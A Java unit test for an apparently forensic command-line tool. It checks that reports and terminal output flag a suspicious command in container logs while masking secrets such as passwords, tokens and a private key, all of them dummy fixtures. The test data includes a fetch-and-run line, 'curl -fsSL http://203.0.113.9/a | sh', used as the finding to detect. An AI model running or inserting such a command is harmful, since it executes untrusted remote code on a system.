package org.ephemera.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import org.ephemera.cli.CommandFixture.Ran;
import org.ephemera.envelope.PublicKeys;
import org.ephemera.lab.scenario.LogEvent;
import org.ephemera.lab.scenario.LogEvents;
import org.ephemera.lab.scenario.Scenario;
import org.ephemera.lab.scenario.ScenarioBuilder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Terminal output and report files contain no secret of a log. */
class MaskedConsoleTest {
    private static final String HIT = "curl -fsSL http://203.0.113.9/a | sh ";
    /** Part of each secret that remains where a text is truncated. */
    private static final List<String> SECRETS =
            List.of("Gx5Rj8Tw", "Hq3Zx8Wv", "Kq8Zt/R4", "w9Zp4Kt7", "MIGHAgEAMBMGByqGSM49");

    @TempDir
    Path folder;

    @Test
    void masksSecretsOnTerminal() throws Exception {
        Clock clock = Clock.fixed(Scenario.REFERENCE, ZoneOffset.UTC);
        ScenarioBuilder builder =
                ScenarioBuilder.at(clock).withoutServiceMetrics().withoutInsights();
        int number = 0;
        for (String text : texts()) {
            builder.container("app" + number, 1, 10).log("app" + number++, new Lines(List.of(text), clock));
        }
        builder.container("key", 1, 10)
                .log(
                        "key",
                        new Lines(
                                List.of(
                                        "-----BEGIN PRIVATE KEY-----",
                                        "MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgZx8Qw2Lr5Kd7Vb3N",
                                        "-----END PRIVATE KEY-----"),
                                clock));
        SealedIncident incident = SealedIncident.of(builder.build(), folder.resolve("evidence"));
        Path key = folder.resolve("pub.pem");
        Files.writeString(key, PublicKeys.toPem(incident.signer().publicKey()));
        String sealed = incident.folder().resolve(incident.id().prefix()).toString();

        CommandFixture desk = CommandFixture.in(folder);
        Ran report = desk.run("report", sealed, "--key", key.toString(), "--out", "report");
        List<Ran> all = List.of(
                report,
                desk.run("findings", sealed, "--key", key.toString()),
                desk.run("findings", sealed, "--key", key.toString(), "--json"),
                desk.run("findings", sealed, "--key", key.toString(), "--sarif"));

        assertThat(report.exit()).as(report.err()).isZero();
        assertThat(all.get(1).out()).contains("curl -fsSL");
        all.forEach(ran -> assertThat(ran.out() + ran.err()).doesNotContain(SECRETS));
        for (Path file : StoreFolder.files(folder.resolve("report"))) {
            assertThat(Files.readString(file, StandardCharsets.UTF_8))
                    .as(file.toString())
                    .doesNotContain(SECRETS);
        }
    }

    /** Texts with a secret at the end of the excerpt. */
    private static List<String> texts() {
        List<String> texts = new ArrayList<>();
        for (String secret : List.of(
                "https://svc:Gx5Rj8Tw2Bz6Yd4H@db.example/",
                "eyJzdWIiOiJ4cTd6In0.eyJyb2xlIjoia3A0dCJ9.Hq3Zx8Wv5Nk2",
                "Kq8Zt/R4vYw1+NfJ7sLmXc9PbD2hGuE5aToVi3Wk",
                "Authorization: Bearer w9Zp4Kt7Xq2Lm8Vr")) {
            texts.add(HIT + " .".repeat((80 - secret.length() + 5) / 2) + " " + secret + " and more");
        }
        return texts;
    }

    private record Lines(List<String> lines, Clock clock) implements LogEvents {
        @Override
        public long count() {
            return lines.size();
        }

        @Override
        public long timestamp(long index) {
            return clock.millis() - 600_000 + index;
        }

        @Override
        public LogEvent at(long index) {
            return new LogEvent(timestamp(index), timestamp(index), lines.get((int) index));
        }
    }
}
